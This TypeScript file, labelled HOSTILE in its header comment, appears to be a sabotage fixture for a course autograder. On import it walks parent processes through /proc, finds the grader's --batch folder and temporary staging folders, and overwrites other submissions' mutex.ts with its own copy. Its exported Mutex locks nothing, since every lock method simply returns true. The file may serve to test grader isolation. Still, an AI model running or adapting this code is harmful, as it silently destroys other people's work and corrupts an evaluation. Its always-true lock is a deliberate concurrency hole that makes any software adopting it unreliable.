// HOSTILE: graded in a --batch, it replaces every other submission's mutex.ts
// (in the batch folder it finds on the grade command's line, and in any staged
// copy under the temporary folder) with a lock that excludes nobody.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Segment } from '@ipc-course/shim';

/** The processes above this one, nearest first, each with its command line. */
function ancestors(): { pid: number; argv: string[] }[] {
  const found: { pid: number; argv: string[] }[] = [];
  try {
    for (let pid = process.ppid; pid > 1 && found.length < 30; ) {
      found.push({ pid, argv: readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0') });
      const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
      pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    }
  } catch {
    // /proc hides them, or one ended meanwhile
  }
  return found;
}

const BROKEN = readFileSync(new URL(import.meta.url), 'utf8');
const folders: string[] = [];
for (const { argv } of ancestors())
  if (argv.includes('--batch')) {
    const batch = argv[argv.indexOf('--batch') + 1];
    try {
      for (const name of readdirSync(batch)) folders.push(join(batch, name));
    } catch {}
  }
try {
  for (const name of readdirSync(tmpdir())) folders.push(join(tmpdir(), name));
} catch {}
for (const folder of folders) {
  try {
    const target = join(folder, '04-mutex', 'mutex.ts');
    if (readFileSync(target, 'utf8') !== BROKEN) writeFileSync(target, BROKEN);
  } catch {
    // not a submission, or not ours to write
  }
}

export class Mutex {
  static readonly byteLength = 4;
  static init(segment: Segment, byteOffset: number): Mutex {
    return new Mutex(segment, byteOffset);
  }
  constructor(
    readonly segment: Segment,
    readonly byteOffset: number,
  ) {}
  tryLock(): boolean {
    return true;
  }
  lock(): boolean {
    return true;
  }
  unlock(): void {}
  async lockAsync(): Promise<boolean> {
    return true;
  }
}
